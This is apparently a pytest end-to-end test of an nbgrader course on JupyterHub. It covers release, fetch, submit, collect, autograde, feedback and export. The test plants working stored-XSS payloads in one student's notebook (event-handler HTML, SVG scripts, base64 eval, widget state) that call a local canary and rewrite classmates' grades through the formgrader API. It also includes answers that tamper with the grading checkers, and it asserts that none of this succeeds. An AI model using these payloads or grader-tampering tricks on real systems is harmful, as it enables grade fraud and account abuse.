"""A real JupyterHub course: release, fetch, submit, collect, autograde, feedback, export.

What runs (all on 127.0.0.1, everything removed afterwards, also when the test fails):

- three new local Unix accounts with unique names (``useradd``; the test runs as root, as
  the project's machines and CI do): an instructor and two students;
- JupyterHub (PyPI ``jupyterhub``, pinned) with ``configurable-http-proxy`` (npm, pinned),
  configured by :func:`attention_book.classroom.hub.jupyterhub_config`, and nbgrader's
  exchange in a shared folder (:func:`~attention_book.classroom.hub.exchange_config`);
- the instructor, as that Unix user: ``python -m attention_book.classroom generate``
  (chapter 02) and ``nbgrader release_assignment``;
- each student *through the hub*: their single-user server is started by the hub, and the
  test drives it through the proxy with that student's own API token: nbgrader's
  assignment-list extension fetches, the contents API saves the work, the extension submits;
- the instructor: ``nbgrader collect``, the book's ``autograde`` (clean processes), ``nbgrader
  generate_feedback`` (the book's config adds its feedback preprocessor),
  ``nbgrader release_feedback`` and ``export``; the student fetches the feedback through
  the hub; the instructor's own server serves the formgrader at ``/user/<name>/formgrader``.

Student A hands in the instructor's solutions. Student B hands in, exercise by exercise,
a correct answer plus a scratch line ``inputs = torch.randn(2, 3)`` (trial D2: full marks),
a rebound checker with no code (trial D1/F: 0), and a correct answer with patched
``feedback.fail`` and ``torch.testing.assert_close`` (trial D1: 0 and flagged: the answer
imports the checkers' module).
The exported scores per exercise are asserted exactly.

Student B's submission also carries active content (trial v4, D2: a submission's HTML ran in
the instructor's formgrader and rewrote every classmate's grade): a never-graded scratch cell
that displays HTML with an event handler, JavaScript, an SVG with a script, Markdown with raw
HTML, a PNG whose metadata writes an event handler into its ``<img>`` and a widget view; a
markdown cell with a raw ``<script>`` and an ``onerror``; widget state in the notebook's
metadata. Each payload marks the page (``window.__pwned``, the title), calls a canary URL that
the test serves, and sets every classmate's score to 0 and B's to full marks through the
formgrader's API. Before ``export``, the instructor opens each view of that submission in
Chromium (the formgrader's page of it, the gradebook's list, the student's list, and B's
feedback page in the instructor's server), authenticated with the instructor's token: no
payload may run, the canary gets no request, no grade changes, and each page shows B's work.
The instructor's ``~/.jupyter/nbgrader_config.py`` also turns on nbconvert's
``HTMLExporter.sanitize_html`` (the formgrader reads that file, not the course's), and the
formgrader's own page of its configuration shows it loaded.

Every user's server and the instructor's commands run on the book's environment: when its
Python is not readable by other accounts (a pyenv Python under /root), the test copies the
interpreter and its standard library into its temporary folder, and a ``.pth`` file there
adds the book's site-packages.
"""

from __future__ import annotations

import csv
import json
import os
import pwd
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from base64 import b64encode
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from attention_book.classroom.hub import course_roster_lines, exchange_config, jupyterhub_config
from attention_book.classroom.simulate import PATCH_HELPERS, code_exercises, rebind_checkers

ROOT = Path(__file__).resolve().parents[1]
CHAPTER = "02"
COURSE = "attention-step-by-step"
PROXY = ROOT / "node_modules" / ".bin" / "configurable-http-proxy"
# Every wait below ends as soon as its condition holds; these are only the limits, set for a
# busy machine (at a load average of 22 on 2 cores one `generate` took over 300 s).
WAIT_LIMIT_S = 600  # the hub to answer, a user's server to start, one API call
STEP_LIMIT_S = 1200  # one command run as a user (generate, autograde, feedback)
READY_LIMIT_S = 180  # a formgrader page to draw what it shows, once loaded


# --------------------------------------------------------------------------- helpers


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _readable_by_others(path: Path) -> bool:
    """Whether an account other than root can reach and read ``path``."""
    path = path.resolve()
    for parent in [*reversed(path.parents), path]:
        mode = parent.stat().st_mode
        if parent != path and not mode & 0o001:
            return False
    return bool(path.stat().st_mode & 0o004)


def _open_for_traversal(paths: list[Path]) -> dict[Path, int]:
    """Let every account pass through the folders above ``paths`` (the clone, its venv).

    A clone inside a private folder (``mktemp -d`` makes mode 700, root's home is 700) would
    hide the book's virtual environment from the hub's accounts. Each ancestor without the
    others' search bit gets it (search only: nobody may list the folder); the returned modes
    let :func:`_restore_modes` put everything back.
    """
    changed: dict[Path, int] = {}
    for path in paths:
        for parent in [*reversed(path.resolve().parents), path.resolve()]:
            mode = parent.stat().st_mode
            if parent not in changed and not mode & 0o001:
                changed[parent] = mode & 0o7777
                parent.chmod(mode & 0o7777 | 0o001)
    return changed


def _restore_modes(changed: dict[Path, int]) -> None:
    for path, mode in changed.items():
        path.chmod(mode)


def _user_python(base: Path) -> tuple[Path, dict[str, str]]:
    """A Python that every account can run and that sees the book's packages.

    Returns the interpreter and the environment variables it needs. When the book's base
    Python is not readable by other accounts (pyenv under /root), its interpreter and
    standard library (not its site-packages) are copied into ``base``, and a ``.pth`` file
    there adds the book's virtual environment.
    """
    base_prefix = Path(sys.base_prefix)
    if _readable_by_others(Path(os.path.realpath(sys._base_executable))) and \
            _readable_by_others(Path(sysconfig.get_paths()["stdlib"])):  # noqa: SLF001
        return Path(sys.executable), {}
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    copy = base / "python"
    (copy / "bin").mkdir(parents=True)
    shutil.copy2(base_prefix / "bin" / version, copy / "bin" / version)
    (copy / "bin" / "python").symlink_to(version)
    (copy / "bin" / "python3").symlink_to(version)
    (copy / "lib").mkdir()
    for library in (base_prefix / "lib").glob("libpython*"):
        shutil.copy2(library, copy / "lib" / library.name, follow_symlinks=False)
    shutil.copytree(base_prefix / "lib" / version, copy / "lib" / version,
                    ignore=shutil.ignore_patterns("site-packages", "test", "idlelib", "tkinter"))
    site = copy / "lib" / version / "site-packages"
    site.mkdir()
    (site / "book_environment.pth").write_text(
        f"import site; site.addsitedir({sysconfig.get_paths()['purelib']!r})\n")
    alembic = copy / "bin" / "alembic"  # nbgrader runs `alembic` when it creates a gradebook
    alembic.write_text(f"#!/bin/sh\nexec {copy / 'bin' / 'python'} -m alembic \"$@\"\n")
    alembic.chmod(0o755)
    return copy / "bin" / "python", {"LD_LIBRARY_PATH": str(copy / "lib")}


class Hub:
    """A JupyterHub process and the accounts it serves, torn down by :meth:`close`."""

    def __init__(self, base: Path):
        self.base = base
        self.users: list[str] = []
        self.process: subprocess.Popen | None = None
        self.url = ""
        self.token = secrets.token_hex(32)
        self.timings: list[tuple[str, float]] = []
        self._clock = time.monotonic()

    def lap(self, label: str) -> None:
        """Note how long the step that just ended took (printed by ``pytest -s``)."""
        now = time.monotonic()
        self.timings.append((label, now - self._clock))
        self._clock = now

    # ----- accounts

    def add_user(self, name: str) -> str:
        home = self.base / "home" / name
        subprocess.run(["useradd", "--create-home", "--home-dir", str(home), "--shell",
                        "/bin/sh", name], check=True, capture_output=True)
        self.users.append(name)
        return name

    def run_as(self, user: str, *args: str, cwd: Path, env: dict) -> subprocess.CompletedProcess:
        account = pwd.getpwnam(user)
        environment = {**env, "HOME": account.pw_dir, "USER": user, "LOGNAME": user}
        result = subprocess.run(list(args), cwd=cwd, env=environment, user=account.pw_uid,
                                group=account.pw_gid, extra_groups=[], capture_output=True,
                                text=True, check=False, timeout=STEP_LIMIT_S)
        self.lap(" ".join(Path(arg).name for arg in args[1:4]) + f" as {user}")
        logs = "".join(f"\n--- {log.name}:\n{log.read_text(errors='replace')[-3000:]}"
                       for log in sorted((cwd / "logs").glob("*.log"))) if (cwd / "logs").is_dir() else ""
        assert result.returncode == 0, (
            f"{' '.join(args[:4])} as {user} failed:\n{result.stdout[-3000:]}\n"
            f"{result.stderr[-3000:]}{logs}")
        return result

    # ----- the hub

    def launch(self, config: str) -> None:
        """Start JupyterHub in the background (:meth:`wait_ready` waits for it)."""
        state = self.base / "hub"
        state.mkdir(mode=0o700)
        (state / "jupyterhub_config.py").write_text(config)
        log = (state / "jupyterhub.log").open("w")
        self.process = subprocess.Popen(
            [sys.executable, "-m", "jupyterhub", "-f", str(state / "jupyterhub_config.py")],
            cwd=state, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)

    def wait_ready(self) -> None:
        deadline = time.monotonic() + WAIT_LIMIT_S
        while time.monotonic() < deadline:
            assert self.process.poll() is None, f"JupyterHub stopped:\n{self.log()}"
            try:
                self.api("GET", "/hub/api/")
                self.lap("JupyterHub answers")
                return
            except (OSError, urllib.error.URLError):
                time.sleep(0.5)
        raise AssertionError(f"JupyterHub did not answer within {WAIT_LIMIT_S} s:\n{self.log()}")

    def log(self) -> str:
        path = self.base / "hub" / "jupyterhub.log"
        return path.read_text(errors="replace")[-4000:] if path.exists() else ""

    def api(self, method: str, path: str, body=None, token: str | None = None):
        data = None
        headers = {"Authorization": f"token {token or self.token}"}
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        request = urllib.request.Request(self.url + path, data=data, method=method,
                                         headers=headers)
        with urllib.request.urlopen(request, timeout=WAIT_LIMIT_S) as response:
            text = response.read().decode()
        return json.loads(text) if text.strip().startswith(("{", "[")) else text

    def request_server(self, user: str) -> None:
        """Ask the hub to start ``user``'s server (:meth:`wait_server` waits for it)."""
        self.api("POST", f"/hub/api/users/{user}/server", {})

    def wait_server(self, user: str) -> str:
        """Wait until ``user``'s server is ready; return a new API token of that user."""
        deadline = time.monotonic() + WAIT_LIMIT_S
        while time.monotonic() < deadline:
            model = self.api("GET", f"/hub/api/users/{user}")
            server = model.get("servers", {}).get("")
            if server and server.get("ready"):
                break
            time.sleep(0.5)
        else:
            raise AssertionError(f"{user}'s server did not start:\n{self.log()}")
        token = self.api("POST", f"/hub/api/users/{user}/tokens",
                         {"note": "course test", "expires_in": 900})
        self.lap(f"{user}'s server is ready")
        return token["token"]

    def close(self) -> None:
        if self.process is not None and self.process.poll() is None:
            # JupyterHub stops the servers and the proxy when it stops (cleanup_servers).
            os.killpg(self.process.pid, signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait(timeout=10)
        for user in self.users:
            uid = pwd.getpwnam(user).pw_uid
            for pid in _pids_of(uid):  # anything the test's accounts still run, by id
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
            subprocess.run(["userdel", "--remove", user], check=False, capture_output=True)
        shutil.rmtree(self.base, ignore_errors=True)


def _pids_of(uid: int) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if entry.stat().st_uid == uid:
                    pids.append(int(entry.name))
            except FileNotFoundError:
                continue
    return pids


def _contents(hub: Hub, user: str, token: str, path: str) -> dict:
    quoted = urllib.parse.quote(path)
    return hub.api("GET", f"/user/{user}/api/contents/{quoted}?content=1", token=token)


def _b_answers(exercises) -> tuple[dict[str, str], dict[str, float]]:
    """B's answers and the score each exercise must get (see the module docstring)."""
    answers, expected = {}, {}
    kinds = ["scratch-line"] + ["rebind-no-code", "patch-helpers"] * len(exercises)
    for exercise, kind in zip(exercises, kinds, strict=False):
        if kind == "scratch-line":
            answers[exercise.answer_id] = exercise.solution + "\n\ninputs = torch.randn(2, 3)\n"
            expected[exercise.exercise] = exercise.points
        elif kind == "rebind-no-code":
            answers[exercise.answer_id] = "".join(f"{name} = None\n" for name in
                                                  exercise.functions) + rebind_checkers(exercise)
            expected[exercise.exercise] = 0.0
        else:
            answers[exercise.answer_id] = exercise.solution + "\n\n" + PATCH_HELPERS
            expected[exercise.exercise] = 0.0
    return answers, expected


# --------------------------------------------------------------------------- active content

VISIBLE_OUTPUT = "printed by B's scratch cell"  # what the pages must still show
VISIBLE_NOTES = "Notes written by B"
ATTACK_JS = """(async function () {
  var kind = %(kind)s;
  window.__pwned = (window.__pwned || []).concat([kind]);
  document.title = 'PWNED ' + kind;
  new Image().src = %(canary)s + '/ran/' + kind;
  var base = location.pathname.split('/formgrader')[0].split('/files/')[0];
  var xsrf = decodeURIComponent((document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || ['', ''])[1]);
  var headers = {'Content-Type': 'application/json', 'X-XSRFToken': xsrf};
  var url = base + '/formgrader/api/submitted_notebooks/' + %(assignment)s + '/' + %(assignment)s;
  var notebooks = await (await fetch(url, {headers: headers})).json();
  for (var notebook of notebooks) {
    var grades = await (await fetch(base + '/formgrader/api/grades?submission_id=' + notebook.id,
                                    {headers: headers})).json();
    for (var grade of grades) {
      await fetch(base + '/formgrader/api/grade/' + grade.id, {method: 'PUT', headers: headers,
        body: JSON.stringify({manual_score: notebook.student === %(cheater)s ? grade.max_score : 0,
                              extra_credit: null})});
    }
  }
  new Image().src = %(canary)s + '/changed-grades/' + kind;
})();"""


def _png() -> str:
    """A 1x1 grey PNG, base64."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    return b64encode(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0,
                                                                        0, 0))
                     + chunk(b"IDAT", zlib.compress(b"\x00\x80")) + chunk(b"IEND", b"")).decode()


def _active_content(canary: str, assignment: str, cheater: str) -> tuple[list[dict], dict]:
    """B's extra cells and notebook metadata, each payload tagged with its kind."""

    def js(kind: str) -> str:
        return ATTACK_JS % {"kind": json.dumps(kind), "canary": json.dumps(canary),
                            "assignment": json.dumps(assignment), "cheater": json.dumps(cheater)}

    def handler(kind: str) -> str:  # an event handler's body: no quotes, no spaces needed
        return f"eval(atob('{b64encode(js(kind).encode()).decode()}'))"

    html_output = f'<img src="x-missing" onerror="{handler("html-output")}">'
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{handler("svg-onload")}">'
           f'<script>{js("svg-script")}</script></svg>')
    markdown_output = f'<img src="x-missing" onerror="{handler("markdown-output")}">'
    figure_alt = b64encode(js("png-width-attribute").encode()).decode()
    widget = {"model_id": "abk-widget", "version_major": 2, "version_minor": 0}
    scratch = "\n".join([
        "from IPython.display import HTML, SVG, Javascript, Markdown, display",
        f"print({VISIBLE_OUTPUT!r})",
        f"display(HTML({html_output!r}))",
        f"display(Javascript({js('javascript-output')!r}))",
        f"display(SVG({svg!r}))",
        f"display(Markdown({markdown_output!r}))",
        f"display({{'image/png': {_png()!r}, 'text/plain': 'a figure'}}, raw=True, metadata="
        f"{{'image/png': {{'width': '1 onload=eval(atob(this.alt))', 'alt': {figure_alt!r}}}}})",
        f"display({{'application/vnd.jupyter.widget-view+json': {widget!r}, "
        "'text/plain': 'a widget'}, raw=True)",
    ])
    notes = (f"{VISIBLE_NOTES}, with an inline <img src=\"x-missing\" onerror=\""
             f"{handler('markdown-inline')}\"> and a script of their own:\n\n"
             f"<script>\n{js('markdown-script')}\n</script>\n\n"
             f'<div><img src="x-missing" onerror="{handler("markdown-block")}"></div>\n')
    cells = [{"cell_type": "code", "metadata": {}, "source": scratch, "outputs": [],
              "execution_count": None},
             {"cell_type": "markdown", "metadata": {}, "source": notes}]
    state = {"version_major": 2, "version_minor": 0, "state": {"abk-widget": {
        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "state": {"value": f'<img src="x-missing" onerror="{handler("widget-state")}">'}}}}
    return cells, {"widgets": {"application/vnd.jupyter.widget-state+json": state}}


class Canary:
    """A local HTTP server that counts every request (a payload that ran calls it)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the base class's name
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format, *args):  # noqa: A002 - the base class's name
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _gradebook(course: Path) -> list[tuple]:
    """Every grade of the course (student, grade id, auto, manual, extra credit), read-only."""
    import sqlite3

    with sqlite3.connect(f"file:{course / 'gradebook.db'}?mode=ro", uri=True) as db:
        return db.execute(
            "SELECT a.student_id, c.name, g.auto_score, g.manual_score, g.extra_credit "
            "FROM grade g JOIN base_cell c ON g.cell_id = c.id "
            "JOIN submitted_notebook n ON g.notebook_id = n.id "
            "JOIN submitted_assignment a ON n.assignment_id = a.id ORDER BY 1, 2").fetchall()


PAGE_STATE_JS = """() => ({
  pwned: window.__pwned || null,
  title: document.title,
  handlers: [...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
      .filter(a => a.name.startsWith('on') && !/^toggle(_name|AllNames)\\(/.test(a.value))
      .map(a => element.tagName + ' ' + a.name + '=' + a.value.slice(0, 60))),
  scripts: [...document.scripts].map(s => (s.src || s.type + ' ' + s.text).slice(0, 120))
      .filter(t => /atob|__pwned|widget|unpkg|require/.test(t)),
  text: document.body ? document.body.innerText : '',
  scores: [...document.querySelectorAll('input.score')].map(input => input.placeholder),
  formgrader: window.formgrader ? {loaded: formgrader.loaded, grades: !!(formgrader.grades
      && formgrader.grades.loaded), comments: !!(formgrader.comments
      && formgrader.comments.loaded)} : null,
})"""


def _visit_as_instructor(browser, hub: Hub, token: str, views: list[tuple]) -> dict[str, dict]:
    """Open each view in Chromium as the instructor; what each page ran and showed.

    ``views``: ``(label, path, ready)`` with ``ready`` a JavaScript condition that holds once
    the page has drawn what it shows. Requests to any other host are refused and recorded.
    """
    context = browser.new_context(extra_http_headers={"Authorization": f"token {token}"})
    elsewhere: list[str] = []

    def local_only(route):
        if urllib.parse.urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    context.route("**/*", local_only)
    seen = {}
    try:
        for label, path, ready in views:
            page = context.new_page()
            errors: list[str] = []
            page.on("pageerror", lambda error, errors=errors: errors.append(str(error)[:300]))
            page.on("console", lambda message, errors=errors: errors.append(
                f"console {message.type}: {message.text[:300]}") if message.type == "error"
                else None)
            response = page.goto(hub.url + path, wait_until="networkidle",
                                 timeout=WAIT_LIMIT_S * 1000)
            try:  # a page whose own scripts a payload broke never gets ready: say so, go on
                page.wait_for_function(ready, timeout=READY_LIMIT_S * 1000)
                drawn = True
            except PlaywrightTimeoutError:
                drawn = False
            page.wait_for_load_state("networkidle", timeout=WAIT_LIMIT_S * 1000)
            seen[label] = {**page.evaluate(PAGE_STATE_JS), "status": response.status,
                           "errors": errors, "drawn": drawn}
            page.close()
    finally:
        context.close()
    seen["elsewhere"] = {"requests": [url for url in elsewhere if "/mathjax/" not in url]}
    return seen


# --------------------------------------------------------------------------- the test


def test_a_course_on_jupyterhub(browser):
    assert os.geteuid() == 0, ("this test creates Unix accounts for JupyterHub and must run "
                               "as root (as on the project's machines and in CI)")
    assert PROXY.exists(), f"{PROXY} is missing: run `npm ci` (make test does)"
    base = Path(tempfile.mkdtemp(prefix="abk-hub-"))
    base.chmod(0o755)
    hub = Hub(base)
    suffix = secrets.token_hex(3)
    opened = _open_for_traversal([ROOT, Path(sys.prefix)])
    canary = Canary()
    try:
        (base / "home").mkdir(mode=0o755)
        python, python_env = _user_python(base)
        instructor, student_a, student_b = (hub.add_user(f"abk{suffix}{role}")
                                           for role in ("i", "a", "b"))
        exchange = base / "exchange"
        exchange.mkdir()
        exchange.chmod(0o1777)
        shared = base / "etc-jupyter"  # what /etc/jupyter holds on a real hub
        shared.mkdir(mode=0o755)
        (shared / "nbgrader_config.py").write_text(exchange_config(exchange, COURSE))
        venv = Path(sys.prefix)
        env = {
            "PATH": f"{python.parent}:/usr/bin:/bin",
            "JUPYTER_CONFIG_PATH": f"{shared}:{venv / 'etc' / 'jupyter'}",
            "JUPYTER_PATH": str(venv / "share" / "jupyter"),
            "LANG": "C.UTF-8",
            **python_env,
        }
        env.update({key: value for key, value in os.environ.items()
                    if key.startswith(("OMP_", "MKL_", "ATEN_", "OPENBLAS_", "CUBLAS_",
                                       "PYTHONHASHSEED", "BOOK_", "KMP_"))})
        port = _free_port()
        hub.url = f"http://127.0.0.1:{port}"
        hub.launch(jupyterhub_config(
            students=[student_a, student_b], instructors=[instructor], bind_url=hub.url,
            hub_port=_free_port(), proxy_api_port=_free_port(), state_dir=base / "hub",
            proxy_command=[str(PROXY)], server_command=[str(python), "-m", "jupyterhub.singleuser"],
            environment=env, service_token=hub.token))

        # While the hub starts, the instructor generates chapter 02 in a course folder in
        # their home (the formgrader serves courses inside the server's folder).
        home = Path(pwd.getpwnam(instructor).pw_dir)
        course = home / "course"
        course.mkdir()
        shutil.chown(course, instructor, instructor)
        (home / ".jupyter").mkdir()
        (home / ".jupyter" / "nbgrader_config.py").write_text(
            f"c = get_config()  # noqa: F821\nc.CourseDirectory.root = {str(course)!r}\n"
            "c.HTMLExporter.sanitize_html = True\n")  # the formgrader reads this file (guide)
        for path in (home / ".jupyter", home / ".jupyter" / "nbgrader_config.py"):
            shutil.chown(path, instructor, instructor)
        hub.run_as(instructor, str(python), "-m", "attention_book.classroom", "generate",
                   "--course-dir", str(course), "--chapters", CHAPTER, "--root", str(ROOT),
                   "--new", cwd=course, env=env)
        hub.wait_ready()
        for user in (student_a, student_b, instructor):  # they start while the work goes on
            hub.request_server(user)
        with (course / "nbgrader_config.py").open("a") as config:
            config.write(course_roster_lines([student_a, student_b]))
        assignment = next(p.name for p in (course / "release").iterdir())
        hub.run_as(instructor, str(python), "-m", "nbgrader", "release_assignment", assignment,
                   cwd=course, env=env)

        instructor_nb = nbformat.read(ROOT / "chapters" / f"{assignment}.ipynb", as_version=4)
        exercises = code_exercises(instructor_nb)
        answers = {student_a: {e.answer_id: e.solution for e in exercises}}
        answers[student_b], expected_b = _b_answers(exercises)
        expected = {student_a: {e.exercise: e.points for e in exercises},
                    student_b: expected_b}

        # Each student, through the hub: fetch, work, submit.
        tokens = {}
        for student in (student_a, student_b):
            token = tokens[student] = hub.wait_server(student)
            listed = hub.api("GET", f"/user/{student}/assignments?course_id={COURSE}",
                             token=token)
            assert listed["success"], listed
            assert [a["assignment_id"] for a in listed["value"]] == [assignment]
            fetched = hub.api("POST", f"/user/{student}/assignments/fetch",
                              {"course_id": COURSE, "assignment_id": assignment}, token=token)
            assert fetched["success"] and fetched["value"][0]["status"] == "fetched", fetched
            path = f"{assignment}/{assignment}.ipynb"
            model = _contents(hub, student, token, path)
            notebook = nbformat.from_dict(model["content"])
            for cell in notebook.cells:
                grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
                if grade_id in answers[student]:
                    cell.source = answers[student][grade_id]
            if student == student_b:  # active content, never graded (see the module docstring)
                cells, metadata = _active_content(canary.url, assignment, student_b)
                notebook.cells += [nbformat.from_dict(cell) for cell in cells]
                notebook.metadata.update(metadata)
            hub.api("PUT", f"/user/{student}/api/contents/{path}",
                    {"type": "notebook", "format": "json", "content": notebook}, token=token)
            submitted = hub.api("POST", f"/user/{student}/assignments/submit",
                                {"course_id": COURSE, "assignment_id": assignment}, token=token)
            assert submitted["success"], submitted

        # The instructor collects, grades, gives feedback and exports.
        classroom = [str(python), "-m", "attention_book.classroom"]
        hub.run_as(instructor, str(python), "-m", "nbgrader", "collect", assignment,
                   cwd=course, env=env)
        for student in (student_a, student_b):
            assert (course / "submitted" / student / assignment / f"{assignment}.ipynb").exists()
        graded = hub.run_as(instructor, *classroom, "autograde", assignment, "--course-dir",
                            str(course), cwd=course, env=env)
        assert "checksum" not in graded.stdout
        assert f"{student_b}: " in graded.stdout and "FLAG" in graded.stdout
        isolation = next(line for line in graded.stdout.splitlines()
                         if "isolation of this run" in line)  # every layer, as the instructor
        assert "private file view" in isolation and "Landlock ABI" in isolation, isolation
        assert "seccomp filter" in isolation and "UNPROTECTED" not in graded.stdout
        # The book's config adds its feedback preprocessor: plain nbgrader does the rest.
        hub.run_as(instructor, str(python), "-m", "nbgrader", "generate_feedback", assignment,
                   cwd=course, env=env)
        hub.run_as(instructor, str(python), "-m", "nbgrader", "release_feedback", assignment,
                   cwd=course, env=env)

        # The formgrader is a page of the instructor's server (trial D7).
        instructor_token = hub.wait_server(instructor)
        formgrader = f"/user/{instructor}/formgrader"
        page = hub.api("GET", formgrader, token=instructor_token)
        assert "Formgrader" in page or "formgrader" in page
        listed = hub.api("GET", f"{formgrader}/api/assignments", token=instructor_token)
        assert isinstance(listed, list), str(listed)[:1000]
        assert [a["name"] for a in listed] == [assignment]
        # nbconvert's sanitiser is on in the formgrader too (the page shows its loaded config)
        config = hub.api("GET", f"{formgrader}/manage_assignments", token=instructor_token)
        shown = re.search(r"(?s)<pre[^>]*>(.*?)</pre>", config)
        assert shown and re.search(r"""["']sanitize_html["']: (?:true|True)\b""", shown[1]), \
            shown[1] if shown else config[:3000]

        # The instructor opens B's submission, which carries active content (trial D2), in
        # Chromium, before `export`: the export below would show any grade a payload changed.
        notebooks = hub.api("GET", f"{formgrader}/api/submitted_notebooks/{assignment}/"
                            f"{assignment}", token=instructor_token)
        b_notebook = next(n["id"] for n in notebooks if n["student"] == student_b)
        grades_before = _gradebook(course)
        feedback_page = "B's feedback page, in the instructor's server"
        seen = _visit_as_instructor(browser, hub, instructor_token, [
            # the formgrader's own script has fetched the grades and comments and drawn them
            # (its init stops later here: MathJax comes from a CDN this network cannot reach)
            ("B's submission in the formgrader", f"{formgrader}/submissions/{b_notebook}/",
             "() => window.formgrader && formgrader.grades && formgrader.grades.loaded "
             "&& formgrader.comments && formgrader.comments.loaded"),
            ("the gradebook's list of submissions", f"{formgrader}/gradebook/{assignment}/"
             f"{assignment}", "() => document.querySelectorAll('td.name').length >= 2"),
            ("B's submissions", f"{formgrader}/manage_students/{student_b}/{assignment}",
             "() => document.querySelectorAll('td.name').length >= 1"),
            (feedback_page, f"/user/{instructor}/files/course/feedback/{student_b}/{assignment}/"
             f"{assignment}.html", "() => document.readyState === 'complete'"),
        ])
        hub.lap("the instructor's views of B's submission in Chromium")
        problems = [f"{label}: {key}: {state[key]}" for label, state in seen.items()
                    for key in ("pwned", "handlers", "scripts", "requests") if state.get(key)]
        problems += [f"{label}: the title is {state['title']!r}" for label, state in seen.items()
                     if "PWNED" in state.get("title", "")]
        if canary.hits:
            problems.append(f"the canary was called: {sorted(set(canary.hits))}")
        changed = sorted(set(_gradebook(course)) ^ set(grades_before), key=repr)
        if changed:
            problems.append(f"{len(changed)} grade rows changed in the gradebook, e.g. "
                            f"{changed[:6]}")
        assert not problems, "B's active content ran in the instructor's browser:\n" + \
            "\n".join(problems) + "\n" + "\n".join(
                f"{label}: drawn {state.get('drawn')}, formgrader {state.get('formgrader')}, "
                f"errors {state.get('errors')}" for label, state in seen.items())
        # ... and each page was the real one, showing B's work.
        submission = seen["B's submission in the formgrader"]
        assert submission["status"] == 200, submission
        assert VISIBLE_OUTPUT in submission["text"] and VISIBLE_NOTES in submission["text"]
        assert all(state["drawn"] and state["status"] == 200 for label, state in seen.items()
                   if label != "elsewhere"), seen
        assert len(submission["scores"]) == sum(len(e.check_ids) for e in exercises)
        assert all(submission["scores"]), submission  # the formgrader's script showed them
        assert VISIBLE_OUTPUT in seen[feedback_page]["text"]
        assert "Points for this check" in seen[feedback_page]["text"]

        hub.run_as(instructor, *classroom, "export", "--course-dir", str(course), cwd=course,
                   env=env)

        with (course / "exercises.csv").open() as handle:
            rows = list(csv.DictReader(handle))
        scores = {}
        for row in rows:
            scores.setdefault(row["student"], {})[row["exercise"]] = float(row["score"])
        assert scores == expected
        lost = [row for row in rows if row["student"] == student_b and float(row["score"]) == 0]
        assert lost and all(row["comment"].startswith("Graded in a clean run") for row in lost)
        assert any("Not counted" in row["comment"] for row in lost), lost
        with (course / "grades.csv").open() as handle:
            totals = {row["student_id"]: float(row["score"]) for row in csv.DictReader(handle)}
        assert totals == {student: sum(expected[student].values()) for student in expected}

        # Student B reads the feedback through the hub: no hidden test in it.
        token = tokens[student_b]
        fetched = hub.api("POST", f"/user/{student_b}/assignments/fetch_feedback",
                          {"course_id": COURSE, "assignment_id": assignment}, token=token)
        assert fetched["success"], fetched
        feedback_dir = _contents(hub, student_b, token, f"{assignment}/feedback")["content"]
        assert feedback_dir, "no feedback arrived"
        html_path = f"{feedback_dir[0]['path']}/{assignment}.html"
        html = _contents(hub, student_b, token, html_path)["content"]
        assert "BEGIN HIDDEN TESTS" not in html and "Not counted" in html
        assert str(course) not in html and "site-packages" not in html
    finally:
        canary.close()
        hub.close()
        _restore_modes(opened)
        hub.lap("clean up")
        for label, seconds in hub.timings:
            print(f"{seconds:6.1f} s  {label}")
    assert not base.exists()
    for user in hub.users:
        with pytest.raises(KeyError):
            pwd.getpwnam(user)
